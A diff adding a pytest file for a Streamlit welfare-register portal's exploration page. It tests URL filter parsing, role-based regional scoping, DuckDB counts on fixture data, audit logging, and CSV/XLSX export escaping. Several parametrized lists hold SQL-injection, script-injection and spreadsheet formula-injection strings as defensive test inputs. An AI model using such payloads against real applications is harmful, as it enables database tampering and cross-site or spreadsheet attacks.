@@ -1,0 +1,707 @@
+"""The Eksplorasi page: filter spec ↔ URL, hostile parameters, scope; the explore_* queries' known answers on
+the fixture register and on a few hand-made rows for the edges; exports opened back; the page in AppTest."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import time
+from collections.abc import Iterator
+from datetime import UTC, date, datetime
+from pathlib import Path
+
+import duckdb
+import openpyxl
+import pandas as pd
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from portal import access, charts, data, db, explore, export
+from portal.accounts import Accounts
+from portal.db import Register
+from portal.explore import FilterSpec
+from portal.store import open_store
+from tests.fixture_register import A, B
+
+REPO = Path(__file__).resolve().parents[1]
+APP = str(REPO / "app.py")
+PAGE = str(REPO / "pages" / "eksplorasi.py")
+PASSWORD = "kata-sandi-yang-panjang-1"
+USERS = {"pusat1": ("pusat", ""), "jogja": ("kabupaten", "3471"), "analis1": ("analis", "")}
+PERIODS = ("2026-06", "2026-09")
+END = date(2026, 9, 30)
+NATION = dict(
+    periode="2026-09",
+    akhir=END,
+    provinsi=None,
+    wilayah=None,
+    desa_dari="0000000000",
+    desa_sampai="9999999999",
+    programs=None,
+    desils=None,
+    kelamin=None,
+    umur=None,
+    disabilitas=None,
+    status=None,
+)
+
+
+# --- the spec and its URL ---------------------------------------------------------------------------------
+
+
+def test_url_round_trip() -> None:
+    spec = FilterSpec(
+        periode="2026-09",
+        kab=("3471",),
+        kec=("347101", "347102"),
+        program=("tanpa", "pkh"),
+        desil=("kosong", "10", "1"),
+        kelamin=("P",),
+        umur=("60+", "0-5"),
+        disabilitas=("ya",),
+        status=("nonaktif",),
+        tingkat="keluarga",
+        baris="kecamatan",
+        kolom="desil",
+        lihat="baris",
+        hal=3,
+    )
+    params = spec.to_params()
+    assert params == {
+        "periode": "2026-09",
+        "tingkat": "keluarga",
+        "kab": "3471",
+        "kec": "347101,347102",
+        "program": "pkh,tanpa",
+        "desil": "1,10,kosong",
+        "jk": "P",
+        "umur": "0-5,60+",
+        "disabilitas": "ya",
+        "status": "nonaktif",
+        "baris": "kecamatan",
+        "kolom": "desil",
+        "lihat": "baris",
+        "hal": "3",
+    }
+    back = explore.parse_params(params, PERIODS)
+    assert back.notes == ()
+    assert back.spec.to_params() == params
+    assert back.spec.program == ("pkh", "tanpa")  # canonical order, whatever order came in
+    assert FilterSpec().to_params() == {}
+
+
+def test_repeated_keys_and_hand_typed_values_are_read() -> None:
+    parsed = explore.parse_params({"jk": ["l", "P"], "umur": "60 ", "program": "PBI-JK, blt_dd"}, PERIODS)
+    assert parsed.notes == ()
+    assert parsed.spec.kelamin == ("L", "P")
+    assert parsed.spec.umur == ("60+",)  # '60+' typed by hand arrives as '60 '
+    assert parsed.spec.program == ("pbi_jk", "blt_dd")
+
+
+HOSTILE = [
+    ({"kab": "'; drop view individu_all; --"}, "kab", ()),
+    ({"kec": "34710,3471011,abcdef,347101"}, "kec", ("347101",)),
+    ({"desil": "0,11,-1,1"}, "desil", ("1",)),
+    ({"program": "<script>alert(1)</script>"}, "program", ()),
+    ({"baris": "nik"}, "baris", ""),
+    ({"baris": "nama_ibu_kandung", "kolom": "desil"}, "baris", "desil"),
+    ({"hal": "0"}, "hal", 1),
+    ({"hal": "9" * 40}, "hal", 1),
+    ({"hal": "9" * 5000}, "hal", 1),  # past Python's limit for turning digits into an int
+    ({"hal": "٣"}, "hal", 1),  # an Arabic-Indic digit is a digit to str.isdigit, not to us
+    ({"periode": "2099-01"}, "periode", None),
+    ({"periode": "2026-09' or 1=1 --"}, "periode", None),
+    ({"tingkat": "semua"}, "tingkat", "individu"),
+    ({"lihat": "nik"}, "lihat", "agregat"),
+    ({"desa": "3471011001\x00,3402012001"}, "desa", ("3402012001",)),
+    ({"desa": "🙂👍🏽"}, "desa", ()),
+    ({"kab": "3471," * 3000}, "kab", ()),  # 15 kB: too long, dropped whole
+    ({"jk": "L", "x" * 5000: "1"}, "kelamin", ("L",)),
+]
+
+
+@pytest.mark.parametrize(("raw", "attr", "expected"), HOSTILE)
+def test_hostile_parameters_are_dropped_with_a_note(raw: dict[str, str], attr: str, expected: object) -> None:
+    parsed = explore.parse_params(raw, PERIODS)
+    assert getattr(parsed.spec, attr) == expected
+    assert parsed.notes, "every dropped value is reported"
+    for note in parsed.notes:
+        assert len(note) < 300
+        assert not set(note) & set("<>*_`[]\x00"), note  # nothing a Markdown renderer would act on
+
+
+def test_same_dimension_twice_and_column_without_rows() -> None:
+    assert explore.parse_params({"baris": "desil", "kolom": "desil"}, PERIODS).spec.kolom == ""
+    lone = explore.parse_params({"kolom": "status"}, PERIODS).spec
+    assert (lone.baris, lone.kolom) == ("status", "")
+
+
+def test_scope_refuses_outside_codes_and_narrows_containing_ones() -> None:
+    spec = FilterSpec(prov=("31", "34"), kab=("3171", "3471"), kec=("347101", "317101"))
+    scoped = explore.apply_scope(spec, "3471")
+    assert scoped.refused == ("31", "3171", "317101")
+    assert scoped.narrowed  # prov 34 contains the scope
+    assert (scoped.spec.prov, scoped.spec.kab, scoped.spec.kec) == ((), (), ("347101",))
+    assert explore.fixed_levels("3471") == ("prov", "kab")
+    same = explore.apply_scope(FilterSpec(kab=("3471",)), "3471")
+    assert (same.refused, same.narrowed, same.spec.kab) == ((), False, ())
+
+
+def test_pusat_gets_implied_parents() -> None:
+    scoped = explore.apply_scope(FilterSpec(desa=(A,), kab=("3171",)), "")
+    assert scoped.refused == ()
+    assert scoped.spec.prov == ("31", "34")
+    assert scoped.spec.kab == ("3171", "3471")
+    assert scoped.spec.kec == ("347101",)
+    # the finest choice in each branch: desa A, and kab 3171 whole
+    assert explore.chosen_regions(scoped.spec, "") == ("3171", A)
+
+
+def test_query_parameters_carry_the_partitions_and_range() -> None:
+    spec = FilterSpec(prov=("31", "34"), kab=("3471",), program=("pkh",))
+    params = explore.query_params(spec, "", END)
+    assert params["wilayah"] == ("31", "3471")
+    assert params["provinsi"] == ("31", "34")
+    assert (params["desa_dari"], params["desa_sampai"]) == ("3100000000", "3471999999")
+    assert params["programs"] == ("pkh",) and params["desils"] is None
+    nation = explore.query_params(FilterSpec(), "", END)
+    assert (nation["wilayah"], nation["provinsi"]) == (None, None)
+    scoped = explore.query_params(FilterSpec(), "3471", END)
+    assert (scoped["wilayah"], scoped["provinsi"]) == (("3471",), ("34",))
+
+
+def test_grouped_and_pivot_tables() -> None:
+    counts = pd.DataFrame(
+        {
+            "baris": ["kosong", "10", "2", "2"],
+            "baris_nama": [None] * 4,
+            "kolom": ["L", "P", "L", "P"],
+            "kolom_nama": [None] * 4,
+            "jumlah": [4, 1, 2, 3],
+            "total": [10] * 4,
+        }
+    )
+    pivot = explore.grouped_table(counts, "desil", "jenis_kelamin")
+    assert list(pivot.columns) == ["Desil", "Laki-laki", "Perempuan", "Total"]
+    assert pivot.values.tolist() == [["Desil 2", 2, 3, 5], ["Desil 10", 0, 1, 1], ["Desil kosong", 4, 0, 4]]
+    single = explore.grouped_table(counts, "desil", "")
+    assert single.values.tolist() == [["Desil 2", 5], ["Desil 10", 1], ["Desil kosong", 4]]
+    programmes = counts.assign(kolom=["pkh", "tanpa", "pkh", "bpnt"])
+    assert "Total" not in explore.grouped_table(programmes, "desil", "program").columns
+    empty = explore.grouped_table(counts.iloc[0:0], "desil", "")
+    assert list(empty.columns) == ["Desil", "Jumlah"] and empty.empty
+
+
+def test_chart_keeps_the_largest_groups() -> None:
+    table = pd.DataFrame({"Desa/kelurahan": [f"D{i}" for i in range(50)], "Jumlah": list(range(50))})
+    shown = explore.chart_table(table, limit=5)
+    assert list(shown["Jumlah"]) == [49, 48, 47, 46, 45]
+    fig = charts.grouped_counts_figure(shown, "Jumlah individu")
+    assert len(fig.data) == 1 and list(fig.data[0].y) == ["D49", "D48", "D47", "D46", "D45"]
+    pivot = pd.DataFrame({"Desil": ["Desil 1"], "Laki-laki": [2], "Perempuan": [1]})
+    assert [t.name for t in charts.grouped_counts_figure(pivot, "Jumlah").data] == ["Laki-laki", "Perempuan"]
+
+
+def test_describe_in_words() -> None:
+    spec = FilterSpec(kec=("347101",), program=("pkh", "tanpa"), baris="desil", kolom="jenis_kelamin")
+    lines = dict(explore.describe(spec, "3471", {"347101": "Tegalrejo"}))
+    assert lines["Wilayah"] == "Tegalrejo (347101)"
+    assert lines["Program"] == "PKH, Tanpa program"
+    assert lines["Desil"] == "Semua"
+    assert lines["Dikelompokkan menurut"] == "Desil × Jenis kelamin"
+    assert dict(explore.describe(FilterSpec(), "", {}))["Wilayah"] == "Seluruh Indonesia"
+
+
+# --- the queries on the fixture register ------------------------------------------------------------------
+
+
+def _counts(register: Register, level: str, baris: str, kolom: str = "", **filters: object) -> dict:
+    frame = register.run(f"explore_{level}_counts", **{**NATION, **filters}, dim_baris=baris, dim_kolom=kolom)
+    total = int(frame["total"].iloc[0]) if len(frame) else 0
+    if kolom:
+        return {(r.baris, r.kolom): int(r.jumlah) for r in frame.itertuples()}, total
+    return {r.baris: int(r.jumlah) for r in frame.itertuples()}, total
+
+
+def _kab(kode: str) -> dict[str, object]:
+    return dict(provinsi=(kode[:2],), wilayah=(kode,), desa_dari=kode + "000000", desa_sampai=kode + "999999")
+
+
+def test_individuals_by_desil(register: Register) -> None:
+    # families 1 (desil 1, 3 people), 2 (desil 2, 2), 3 (desil 7, 1), 4 (no desil, 2), 5 (desil 4, 2), 6 (desil 8, 1)
+    assert _counts(register, "individu", "desil") == ({"1": 3, "2": 2, "7": 1, "kosong": 2, "4": 2, "8": 1}, 11)
+
+
+def test_families_by_desil_and_status(register: Register) -> None:
+    assert _counts(register, "keluarga", "desil") == ({"1": 1, "2": 1, "7": 1, "kosong": 1, "4": 1, "8": 1}, 6)
+    assert _counts(register, "keluarga", "status") == ({"aktif": 5, "nonaktif": 1}, 6)  # JOKO SUSILO's family
+    assert _counts(register, "individu", "status") == ({"aktif": 10, "nonaktif": 1}, 11)
+
+
+def test_by_kecamatan_with_a_programme_filter(register: Register) -> None:
+    # PBI-JK: families 1 (3 people) and 3 (1) in kecamatan 347101, family 4 (2 people) in 340201
+    frame = register.run(
+        "explore_individu_counts", **{**NATION, "programs": ("pbi_jk",)}, dim_baris="kecamatan", dim_kolom=""
+    )
+    assert dict(zip(frame["baris"], frame["jumlah"], strict=True)) == {"347101": 4, "340201": 2}
+    assert frame.set_index("baris").at["347101", "baris_nama"] == "Tegalrejo"
+    none = _counts(register, "keluarga", "kecamatan", programs=("tanpa",))
+    assert none == ({"347101": 1, "317101": 1}, 2)  # WARSINAH (A) and JOKO SUSILO (C) receive nothing
+
+
+def test_programme_dimension_counts_each_programme(register: Register) -> None:
+    # kab 3471: family 1 (3 people: PKH, BPNT, PBI-JK), family 2 (2 people: none), family 3 (1 person: PBI-JK)
+    got = _counts(register, "individu", "program", **_kab("3471"))
+    assert got == ({"pkh": 3, "bpnt": 3, "pbi_jk": 4, "tanpa": 2}, 6)
+
+
+def test_pivot_sex_by_desil(register: Register) -> None:
+    got, total = _counts(register, "individu", "jenis_kelamin", "desil", **_kab("3471"))
+    assert got == {("L", "1"): 2, ("L", "7"): 1, ("P", "1"): 1, ("P", "2"): 2}
+    assert total == 6
+
+
+def test_region_lists_and_scope_range(register: Register) -> None:
+    both = dict(provinsi=("34",), wilayah=(A, "3402"), desa_dari="3402000000", desa_sampai=A)
+    assert _counts(register, "individu", "desa", **both) == ({A: 6, B: 2}, 8)
+    assert _counts(register, "keluarga", "", wilayah=("31",), provinsi=("31",)) == ({"semua": 2}, 2)
+    assert _counts(register, "individu", "", periode="2026-06") == ({"semua": 10}, 10)
+
+
+@pytest.mark.parametrize(
+    ("akhir", "band"),
+    [
+        # everyone in the fixture was born on 1985-07-15
+        (date(1991, 7, 14), "0-5"),
+        (date(1991, 7, 15), "6-17"),
+        (date(2003, 7, 14), "6-17"),
+        (date(2003, 7, 15), "18-59"),
+        (date(2045, 7, 14), "18-59"),
+        (date(2045, 7, 15), "60+"),
+    ],
+)
+def test_age_band_edges(register: Register, akhir: date, band: str) -> None:
+    assert _counts(register, "individu", "kelompok_umur", akhir=akhir) == ({band: 11}, 11)
+    assert _counts(register, "individu", "", akhir=akhir, umur=(band,))[1] == 11
+
+
+def test_disability_and_sex_filters(register: Register) -> None:
+    assert _counts(register, "individu", "disabilitas") == ({"tidak": 11}, 11)  # no kd_sulit_* in the fixture
+    assert _counts(register, "individu", "", disabilitas=("ya",)) == ({}, 0)
+    # women: SITI, WARSINAH, SURYANI (A), SUPARMI (B), NUR HALIMAH (C)
+    assert _counts(register, "individu", "", kelamin=("P",))[1] == 5
+    assert _counts(register, "individu", "jenis_kelamin") == ({"L": 6, "P": 5}, 11)
+    assert _counts(register, "individu", "", kelamin=("P",), desils=("1", "kosong"))[1] == 2
+
+
+def test_rows_page_and_no_mothers_name(register: Register) -> None:
+    rows = register.run("explore_individu_rows", **{**NATION, **_kab("3471")}, batas=2, mulai=2)
+    # ordered by desa, name: ANDI, BUDI, HENDRA, SITI, SURYANI, WARSINAH; the second page of two
+    assert list(rows["nama"]) == ["HENDRA WIJAYA", "SITI AMINAH"]
+    assert "nama_ibu_kandung" not in rows.columns
+    assert list(rows["program"]) == ["PBI-JK", "PKH, BPNT, PBI-JK"]
+    assert list(rows["nama_desa"]) == ["Kricak", "Kricak"]
+    assert list(rows["desil"]) == [7, 1]  # a number, not text
+    missing = register.run("explore_individu_rows", **{**NATION, "desils": ("kosong",)}, batas=50, mulai=0)
+    assert list(missing["nama"]) == ["SUPARMAN", "SUPARMI"] and missing["desil"].isna().all()
+    families = register.run("explore_keluarga_rows", **{**NATION, "status": ("nonaktif",)}, batas=50, mulai=0)
+    assert list(families["nama_kepala_keluarga"]) == ["JOKO SUSILO"]
+    assert families["alasan_nonaktif"].iloc[0] == "mampu"
+    assert families["program"].iloc[0] == "tanpa program"
+    assert "nama_ibu_kandung" not in families.columns
+
+
+@pytest.mark.parametrize("text", ["'; drop view individu_all; --", "%", "x" * 10_000, "a\x00b", "🙂"])
+def test_hostile_list_values_are_data(register: Register, text: str) -> None:
+    for name in ("explore_individu_counts", "explore_keluarga_counts"):
+        frame = register.run(name, **{**NATION, "wilayah": (text,), "desils": (text,)}, dim_baris=text, dim_kolom=text)
+        assert frame.empty
+    assert _counts(register, "individu", "")[1] == 11  # nothing was dropped
+
+
+# --- edges on a few hand-made rows ------------------------------------------------------------------------
+
+SULIT = [
+    "kd_sulit_melihat",
+    "kd_sulit_mendengar",
+    "kd_sulit_berjalan",
+    "kd_sulit_menggunakan_tangan",
+    "kd_sulit_mengingat",
+    "kd_sulit_mengurus_diri",
+    "kd_sulit_berkomunikasi",
+]
+
+
+def _person(pid: int, fid: int, born: date | None, sex: str, role: str, sulit: str | None = None) -> dict:
+    return {
+        "periode": "2026-09",
+        "kode_prov": "34",
+        "kode_kab": "3471",
+        "kode_kec": "347101",
+        "kode_desa": A,
+        "id_dtks": pid,
+        "id_keluarga": fid,
+        "nik": f"34710100000000{pid:02d}",
+        "no_kk": f"34710100000000{fid:02d}",
+        "nama": f"ORANG {pid}",
+        "jenis_kelamin": sex,
+        "tanggal_lahir": born,
+        "hubungan_keluarga": role,
+        "rt": "001",
+        "rw": "001",
+        "status_aktif": True,
+        "keberadaan": "ada",
+        **{c: c == sulit for c in SULIT},
+    }
+
+
+@pytest.fixture(scope="module")
+def edges() -> Iterator[duckdb.DuckDBPyConnection]:
+    """Family 1: two heads (the lower id, a man of 59, counts) and members at every age edge on 2026-09-30;
+    family 2 has no head. Two people have a disability, each through a different kd_sulit_* item."""
+    people = pd.DataFrame(
+        [
+            _person(1, 1, date(1966, 10, 1), "L", "kepala keluarga"),  # 59
+            _person(2, 1, date(1950, 1, 1), "P", "kepala keluarga", "kd_sulit_mengingat"),  # 76, second head
+            _person(3, 1, date(2020, 10, 1), "P", "anak"),  # 5
+            _person(4, 1, date(2020, 9, 30), "L", "anak"),  # 6
+            _person(5, 1, date(2008, 10, 1), "P", "anak"),  # 17
+            _person(6, 1, date(2008, 9, 30), "L", "anak"),  # 18
+            _person(7, 1, date(1966, 9, 30), "L", "lainnya"),  # 60
+            _person(8, 2, None, "P", "anak", "kd_sulit_berkomunikasi"),  # birth date unknown
+        ]
+    )
+    families = pd.DataFrame(
+        [
+            {
+                "periode": "2026-09",
+                "kode_prov": "34",
+                "kode_kab": "3471",
+                "kode_kec": "347101",
+                "kode_desa": A,
+                "id_keluarga": fid,
+                "no_kk": f"34710100000000{fid:02d}",
+                "nama_kepala_keluarga": f"KELUARGA {fid}",
+                "alamat": "-",
+                "rt": "001",
+                "rw": "001",
+                "jumlah_art": 1,
+                "desil": desil,
+                "status_aktif": True,
+                "alasan_nonaktif": None,
+                "tanggal_verivali": date(2026, 1, 1),
+                "prog_pkh": fid == 1,
+                "prog_bpnt": False,
+                "prog_pbi_jk": False,
+                "prog_blt_dd": None,
+            }
+            for fid, desil in ((1, 3), (2, None))
+        ]
+    )
+    families["desil"] = families["desil"].astype("Int8")  # as in the register's schema
+    con = duckdb.connect()
+    con.register("people_src", people)
+    con.register("families_src", families)
+    con.execute("create view individu_all as select * from people_src")
+    con.execute("create view keluarga_all as select * from families_src")
+    con.execute("create view wilayah_kecamatan as select '347101' as kode_kec, 'Tegalrejo' as nama_kec")
+    con.execute(f"create view wilayah_desa as select '{A}' as kode_desa, 'Kricak' as nama_desa")
+    yield con
+    con.close()
+
+
+def _edge_counts(con: duckdb.DuckDBPyConnection, level: str, baris: str, **filters: object) -> dict[str, int]:
+    params = {**NATION, **filters, "dim_baris": baris, "dim_kolom": ""}
+    name = f"explore_{level}_counts"
+    frame = con.execute(db.load_sql(name), {k: params[k] for k in db.query_params(name)}).df()
+    return {r.baris: int(r.jumlah) for r in frame.itertuples()}
+
+
+def test_age_bands_at_the_period_end(edges: duckdb.DuckDBPyConnection) -> None:
+    assert _edge_counts(edges, "individu", "kelompok_umur") == {
+        "0-5": 1,
+        "6-17": 2,
+        "18-59": 2,
+        "60+": 2,
+        "kosong": 1,
+    }
+
+
+def test_any_difficulty_is_a_disability(edges: duckdb.DuckDBPyConnection) -> None:
+    assert _edge_counts(edges, "individu", "disabilitas") == {"ya": 2, "tidak": 6}
+    assert _edge_counts(edges, "individu", "desil", disabilitas=("ya",)) == {"3": 1, "kosong": 1}
+
+
+def test_families_take_the_head_and_count_once(edges: duckdb.DuckDBPyConnection) -> None:
+    # family 1's head is person 1 (lowest id of two heads): a man of 59 without a disability; family 2 has none
+    assert _edge_counts(edges, "keluarga", "jenis_kelamin") == {"L": 1, "kosong": 1}
+    assert _edge_counts(edges, "keluarga", "kelompok_umur") == {"18-59": 1, "kosong": 1}
+    assert _edge_counts(edges, "keluarga", "disabilitas") == {"tidak": 1, "kosong": 1}
+    # a null programme flag is 'no': family 2 receives nothing
+    assert _edge_counts(edges, "keluarga", "program") == {"pkh": 1, "tanpa": 1}
+    # a head filter without a head dimension still reads the heads
+    assert _edge_counts(edges, "keluarga", "desil", kelamin=("L",)) == {"3": 1}
+    assert _edge_counts(edges, "keluarga", "desil", umur=("18-59",)) == {"3": 1}
+
+
+def test_family_rows_show_the_head(edges: duckdb.DuckDBPyConnection) -> None:
+    name = "explore_keluarga_rows"
+    params = {**NATION, "batas": 50, "mulai": 0}
+    rows = edges.execute(db.load_sql(name), {k: params[k] for k in db.query_params(name)}).df()
+    assert list(rows["id_keluarga"]) == [1, 2]
+    assert list(rows["jenis_kelamin"]) == ["L", "kosong"]
+    assert rows["usia"].iloc[0] == 59 and pd.isna(rows["usia"].iloc[1])
+    assert list(rows["disabilitas"]) == ["tidak", "kosong"]
+    params["disabilitas"] = ("kosong",)
+    only = edges.execute(db.load_sql(name), {k: params[k] for k in db.query_params(name)}).df()
+    assert list(only["id_keluarga"]) == [2]
+
+
+# --- exports ----------------------------------------------------------------------------------------------
+
+HOSTILE_CELLS = ['=HYPERLINK("http://x.test/?a="&A1,"klik")', "+1", "-2+3", "@SUM(A1)", "\t=1+1", " =1", "\r@x"]
+WHEN = datetime(2026, 11, 23, 3, 15, tzinfo=UTC)  # 10:15 WIB
+
+
+def _export_table() -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            "nama": [*HOSTILE_CELLS, "BUDI SANTOSO"],
+            "jumlah": [-2, -1, 0, 1, 2, 3, 4, 5],
+            "rasio": [-1.5, 0.25, None, 1.0, 2.0, 3.0, 4.0, 5.0],
+        }
+    )
+
+
+def _header() -> export.Header:
+    return export.header_block(
+        "Eksplorasi DTKS — baris",
+        "September 2026 (2026-09)",
+        [("Wilayah", "Tegalrejo (347101)"), ("Program", "PKH")],
+        "=jogja",
+        WHEN,
+        export.cap_note(100_001),
+    )
+
+
+def test_csv_has_the_header_and_no_formula() -> None:
+    raw = export.to_csv(_export_table(), _header())
+    assert raw.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    assert rows[0] == ["Judul", "Eksplorasi DTKS — baris"]
+    assert rows[1] == ["Periode", "September 2026 (2026-09)"]
+    assert ["Wilayah", "Tegalrejo (347101)"] in rows
+    assert ["Dibuat", "23-11-2026 10:15 WIB"] in rows
+    assert ["Oleh", "'=jogja"] in rows  # a hostile user name is escaped too
+    assert ["Catatan", "Ekspor dibatasi 100.000 baris pertama dari 100.001 baris yang cocok."] in rows
+    start = rows.index([]) + 1
+    assert rows[start] == ["nama", "jumlah", "rasio"]
+    body = rows[start + 1 :]
+    assert [r[0] for r in body] == ["'" + h for h in HOSTILE_CELLS] + ["BUDI SANTOSO"]
+    assert [r[1] for r in body[:2]] == ["-2", "-1"]  # real negative numbers are not escaped
+    assert body[0][2] == "-1.5" and body[2][2] == ""
+    for row in rows:
+        for cell in row:  # only a real number may begin with a trigger character
+            assert not cell.lstrip(" ").startswith(export.TRIGGERS) or re.fullmatch(r"-[0-9.]+", cell), cell
+
+
+def test_xlsx_has_the_header_and_no_formula() -> None:
+    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx(_export_table(), _header())))
+    sheet = book.active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert all(c.data_type != "f" for c in cells)
+    assert sheet["A1"].value == "Judul" and sheet["B2"].value == "September 2026 (2026-09)"
+    labels = {sheet.cell(r, 1).value: sheet.cell(r, 2).value for r in range(1, 9)}
+    assert labels["Dibuat"] == "23-11-2026 10:15 WIB"
+    assert labels["Oleh"] == "=jogja" and labels["Program"] == "PKH"
+    top = next(r for r in range(1, 20) if sheet.cell(r, 1).value == "nama")
+    names = [sheet.cell(top + 1 + i, 1) for i in range(len(HOSTILE_CELLS))]
+    # the text is kept as it was (XML reads a carriage return back as a line feed)
+    assert [c.value for c in names] == [h.replace("\r", "\n") for h in HOSTILE_CELLS]
+    assert all(c.data_type == "s" and c.quotePrefix for c in names)
+    first = sheet.cell(top + 1, 2)
+    assert first.value == -2 and first.data_type == "n"
+    assert sheet.cell(top + 1, 3).value == -1.5 and sheet.cell(top + 3, 3).value is None
+
+
+def test_cap_note_only_above_the_cap() -> None:
+    assert export.cap_note(export.ROW_CAP) is None
+    assert export.ROW_CAP == 100_000
+    assert export.file_name("agregat", "2026-09", WHEN, "csv") == "eksplorasi-agregat-2026-09-20261123-1015.csv"
+
+
+# --- the page ---------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def env(portal_env: str) -> Iterator[str]:
+    store = open_store(portal_env)
+    accounts = Accounts(store)
+    for name, (role, region) in USERS.items():
+        accounts.create_user(name, PASSWORD, role, region)
+    store.close()
+    yield portal_env
+
+
+def _page(user: str, query: dict[str, str] | None = None) -> AppTest:
+    role, region = USERS[user]
+    at = AppTest.from_file(PAGE, default_timeout=60)
+    now = time.time()
+    at.session_state["staf"] = {
+        "scope": access.Scope(role, region, user),
+        "mulai": now,
+        "terakhir": now,
+        "metode": "lokal",
+    }
+    at.query_params.update(query or {})
+    return at.run()
+
+
+def _audit(url: str, action: str) -> list:
+    store = open_store(url)
+    try:
+        return [e for e in store.audit_log() if e.action == action]
+    finally:
+        store.close()
+
+
+def test_pusat_signs_in_and_groups_by_desil(env: str) -> None:
+    at = AppTest.from_file(APP, default_timeout=60).run()
+    at.switch_page("pages/masuk.py").run()
+    at.text_input[0].set_value("pusat1")
+    at.text_input[1].set_value(PASSWORD)
+    at.button[-1].click().run()
+    at.switch_page("pages/eksplorasi.py").run()
+    assert not at.exception, at.exception
+    assert at.metric[0].value == "11"
+    at.selectbox(key="eks_baris").set_value("desil").run()
+    assert not at.exception, at.exception
+    table = at.dataframe[0].value
+    assert dict(zip(table["Desil"], table["Jumlah"], strict=True)) == {
+        "Desil 1": 3,
+        "Desil 2": 2,
+        "Desil 4": 2,
+        "Desil 7": 1,
+        "Desil 8": 1,
+        "Desil kosong": 2,
+    }
+    assert at.query_params["baris"] == "desil" and at.query_params["periode"] == "2026-09"
+    at.toggle(key="eks_lihat").set_value(True).run()
+    rows = at.dataframe[-1].value
+    assert len(rows) == 11 and "nik" in rows.columns and "nama_ibu_kandung" not in rows.columns
+    assert [e.actor for e in _audit(env, "lihat_baris")] == ["pusat1"]
+
+
+def test_a_shared_link_reproduces_the_view(env: str) -> None:
+    link = {"kec": "347101", "program": "pbi_jk", "baris": "jenis_kelamin", "kolom": "desil", "hal": "99"}
+    at = _page("pusat1", link)
+    assert not at.exception, at.exception
+    assert "hal" not in at.query_params  # page 99 of 1: back to the first page
+    assert at.query_params["kab"] == "3471"  # the implied parents are written into the link
+    assert at.session_state["eks_prov"] == ["34"] and at.session_state["eks_kab"] == ["3471"]
+    table = at.dataframe[0].value
+    # PBI-JK in kecamatan 347101: family 1 (BUDI L, SITI P, ANDI L; desil 1) and family 3 (HENDRA L; desil 7)
+    assert table.to_dict("list") == {
+        "Jenis kelamin": ["Laki-laki", "Perempuan"],
+        "Desil 1": [2, 1],
+        "Desil 7": [1, 0],
+        "Total": [3, 1],
+    }
+    assert at.metric[0].value == "4"
+
+
+def test_kabupaten_choices_are_its_kecamatan_and_other_regions_are_refused(env: str) -> None:
+    at = _page("jogja", {"kab": "3171", "desil": "1,2,99", "nik": "3471015507850003"})
+    assert not at.exception, at.exception
+    assert any("3171" in e.value for e in at.error)
+    assert any("99" in w.value for w in at.warning) and any("nik" in w.value for w in at.warning)
+    refusals = _audit(env, "ditolak")
+    assert len(refusals) == 1 and refusals[0].actor == "jogja" and "3171" in str(refusals[0].detail)
+    assert "kab" not in at.query_params and at.query_params["desil"] == "1,2"
+    kec = at.multiselect(key="eks_kec")
+    assert len(kec.options) == 14  # the 14 kecamatan of Kota Yogyakarta, and nothing else
+    assert all(re.search(r"\(3471[0-9]{2}\)$", o) for o in kec.options), kec.options
+    assert {m.key for m in at.multiselect} >= {"eks_kec", "eks_desa"}
+    assert not {m.key for m in at.multiselect} & {"eks_prov", "eks_kab"}  # fixed by the scope
+    # desil 1 and 2 in Kota Yogyakarta: families 1 (3 people) and 2 (2 people)
+    assert at.metric[0].value == "5"
+    at.multiselect(key="eks_desil").set_value([]).run()
+    at.selectbox(key="eks_baris").set_value("kecamatan").run()
+    table = at.dataframe[0].value
+    assert table.to_dict("list") == {"Kecamatan": ["Tegalrejo (347101)"], "Jumlah": [6]}
+
+
+def test_analyst_sees_aggregates_only(env: str) -> None:
+    at = _page("analis1", {"baris": "status", "lihat": "baris"})
+    assert not at.exception, at.exception
+    assert any("tidak memiliki akses" in e.value for e in at.error)
+    assert len(at.dataframe) == 1  # the aggregate table, no rows
+    assert at.dataframe[0].value.to_dict("list") == {"Status": ["Aktif", "Nonaktif"], "Jumlah": [10, 1]}
+    assert not at.toggle
+    refusals = _audit(env, "ditolak")
+    assert [(r.actor, r.detail["halaman"]) for r in refusals] == [("analis1", "eksplorasi_baris")]
+    assert "lihat" not in at.query_params
+    analyst = access.Scope("analis", "", "analis1")
+    with pytest.raises(access.AccessDenied):
+        data.person_rows(analyst, "", "explore_individu_rows", **NATION, batas=10, mulai=0)
+    jogja = access.Scope("kabupaten", "3471", "jogja")
+    with pytest.raises(access.AccessDenied):
+        data.person_rows(jogja, "", "explore_individu_rows", **NATION, batas=10, mulai=0)
+    assert (
+        len(data.person_rows(jogja, "3471", "explore_individu_rows", **{**NATION, **_kab("3471")}, batas=10, mulai=0))
+        == 6
+    )
+
+
+# role → (its region, individuals in it on 2026-09, a URL parameter outside it)
+ROLES = {
+    "pusat": ("", 11, None),
+    "provinsi": ("34", 8, ("kab", "3171")),  # desa A (6 people) and B (2)
+    "kabupaten": ("3471", 6, ("kec", "340201")),
+    "kecamatan": ("347101", 6, ("desa", B)),
+    "desa": (A, 6, ("desa", "3471011002")),
+    "analis": ("34", 8, ("prov", "31")),
+}
+
+
+@pytest.mark.parametrize("role", list(ROLES))
+def test_every_role_sees_its_own_region_only(env: str, role: str) -> None:
+    region, people, outside = ROLES[role]
+    at = AppTest.from_file(PAGE, default_timeout=60)
+    now = time.time()
+    user = f"user-{role}"
+    at.session_state["staf"] = {
+        "scope": access.Scope(role, region, user),
+        "mulai": now,
+        "terakhir": now,
+        "metode": "uji",
+    }
+    if outside:
+        at.query_params[outside[0]] = outside[1]
+    at.run()
+    assert not at.exception, at.exception
+    assert at.metric[0].value == str(people)
+    refusals = [e for e in _audit(env, "ditolak") if e.actor == user]
+    assert len(refusals) == (1 if outside else 0)
+    if outside:
+        assert outside[1] in str(refusals[0].detail["kode"]) and outside[0] not in at.query_params
+
+
+def test_a_hostile_link_gives_notes_not_a_traceback(env: str) -> None:
+    link = {
+        "kab": "<b>3471</b>",
+        "desil": "🙂,**1**",
+        "baris": "'; drop view individu_all; --",
+        "hal": "-1",
+        "periode": "2026-13",
+        "kec": "3" * 10_000,
+        "<script>": "x",
+    }
+    at = _page("jogja", link)
+    assert not at.exception, at.exception
